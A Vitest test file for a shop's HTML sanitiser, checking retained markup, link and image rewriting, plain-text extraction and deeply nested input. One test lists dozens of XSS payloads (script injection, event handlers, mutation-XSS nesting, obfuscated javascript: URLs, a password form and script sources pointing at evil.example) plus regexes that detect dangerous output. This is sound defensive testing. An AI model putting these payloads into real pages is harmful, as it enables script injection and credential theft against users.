import { parseFragment, serialize } from 'parse5';
import { describe, expect, it } from 'vitest';
import { cleanHtml, plainText, shallowHtml } from './clean-html.ts';

describe('the shop’s HTML', () => {
  it('leaves headings, lists, tables, links and pictures', () => {
    const html =
      '<h2>Top</h2><p>Some <strong>bold</strong> text</p><ul><li>One</li></ul>' +
      '<table><thead><tr><th scope="col">Rank</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>';
    expect(cleanHtml(html)).toBe(html);
    expect(cleanHtml('<a href="/results?eventID=1" title="All">Results</a>')).toBe(
      '<a href="/results?eventID=1" title="All" rel="noopener">Results</a>',
    );
    expect(cleanHtml('<img src="//cdn.example/a.jpg" width="640" height="480">')).toBe(
      '<img src="https://cdn.example/a.jpg" alt="" width="640" height="480" loading="lazy" decoding="async" />',
    );
  });

  it('has h2 for h1, since the page’s title is the h1', () =>
    expect(cleanHtml('<h1>Title</h1>')).toBe('<h2>Title</h2>'));

  it('converts a video’s frame into a link and drops every other frame', () => {
    expect(cleanHtml('<iframe src="https://www.youtube.com/embed/x"></iframe>')).toBe(
      '<a href="https://www.youtube.com/embed/x" rel="noopener">Watch the video</a>',
    );
    for (const src of [
      'https://evil.example',
      'https://www.youtube.com.evil.example/',
      'data:text/html,x',
    ])
      expect(cleanHtml(`<iframe src="${src}"></iframe>`)).toBe('');
  });

  it('loses attributes that would affect our page', () => {
    expect(
      cleanHtml(
        '<p id="cart" class="hero" style="position:fixed" data-x="1" onclick="x()">Text</p>',
      ),
    ).toBe('<p>Text</p>');
    expect(cleanHtml('<a href="javascript:steal()">x</a>')).toBe('<a>x</a>');
    expect(cleanHtml('<a href="https://x.example" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://x.example" rel="noopener">x</a>',
    );
  });

  it.each([
    '<script>steal()</script>',
    '<SCRIPT SRC=//evil.example></SCRIPT>',
    '<scr<script>ipt>steal()</scr</script>ipt>',
    '<img src=x onerror=steal()>',
    '<img src="https://a.example/x.png" onload="steal()">',
    '<img src="data:image/svg+xml,<svg onload=steal()>">',
    '<svg onload=steal()><script>steal()</script></svg>',
    '<svg><style><img src=x onerror=steal()></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
    '<template><img src=x onerror=steal()></template>',
    '<a href="javascript:steal()">x</a>',
    '<a href=" java\nscript:steal()">x</a>',
    '<a href="&#106;avascript:steal()">x</a>',
    '<a href="vbscript:steal()">x</a>',
    '<a href="data:text/html,<script>steal()</script>">x</a>',
    '<form action="https://evil.example"><input name="password"><button onclick="steal()">Go</button></form>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<style>@import "https://evil.example";</style>',
    '<link rel="stylesheet" href="https://evil.example"><meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="https://evil.example/">',
    '<p style="background:url(javascript:steal())">x</p>',
    '<math href="javascript:steal()">x</math>',
    '<textarea><img src=x onerror=steal()></textarea>',
    '<!--[if IE]><script>steal()</script><![endif]-->',
    '<p title="</p><script>steal()</script>">x</p>',
    '<iframe srcdoc="<script>steal()</script>"></iframe>',
    '<video src=x onerror=steal()><source onerror=steal()></video>',
    '<details open ontoggle=steal()>x</details>',
    '<div><![CDATA[<img src=x onerror=steal()>]]></div>',
    '<plaintext><script>steal()</script>',
  ])('is harmless: %s', (hostile) => {
    // As a browser would parse the result.
    const seen = serialize(parseFragment(cleanHtml(hostile)));
    expect(seen).not.toMatch(
      /<(script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|template|video|details|textarea)\b/i,
    );
    expect(seen).not.toMatch(/<[^>]*\s(on\w+|style|srcdoc|target|id|class)\s*=/i);
    expect(seen).not.toMatch(/(href|src)\s*=\s*"?\s*(javascript|vbscript|data):/i);
  });
});

describe('plain text', () => {
  it('resolves entities and separates blocks, not words', () => {
    expect(plainText('<p>Fish &amp; chips &lt;b&gt;</p><p>wo<b>rd</b> two<br>three</p>')).toBe(
      'Fish & chips <b> word two three',
    );
  });

  it('leaves out headings, tables and code', () => {
    const html =
      '<h2>Heading</h2><script>x()</script><style>p{}</style><p>Text</p><table><tr><td>1</td></tr></table>';
    expect(plainText(html)).toBe('Text');
    expect(plainText('<ul><li>A vest</li><li>Two hats!</li><li> </li></ul>')).toBe(
      'A vest. Two hats!',
    );
    expect(plainText('<h2>Only a heading</h2>')).toBe('Only a heading');
  });
});

describe('elements that are nested very deep', () => {
  const many = (html: string) => html.repeat(100_000);
  it.each([
    ['div', `${many('<div>')}Read <b>this</b>${many('</div>')}`],
    ['div without ends', `${many('<div>')}Read <b>this</b>`],
    ['bold letters', `${many('<b>')}Read this${many('</b>')}`],
    ['lists', `${many('<ul><li>')}Read this${many('</li></ul>')}`],
    ['tables', `${many('<table><tr><td>')}Read this${many('</td></tr></table>')}`],
    ['quoted brackets', `${many('<div title="<p>">')}Read this`],
    ['ends of others', `${many('<div>')}Read this${many('</i>')}`],
  ])('(%s) are cleaned and read, with their text', (_what, html) => {
    const cleaned = cleanHtml(html);
    expect(cleaned.replaceAll(/<[^>]*>/g, '')).toContain('Read this');
    expect(cleaned).not.toMatch(/(?:<\w+>){300}/);
    expect(plainText(html)).toContain('Read this');
  });

  it('are few in a long text without end tags, which stays as it is', () => {
    const html = '<p>One<ul><li>Two</ul>'.repeat(1_000);
    expect(shallowHtml(html)).toBe(html);
  });
});
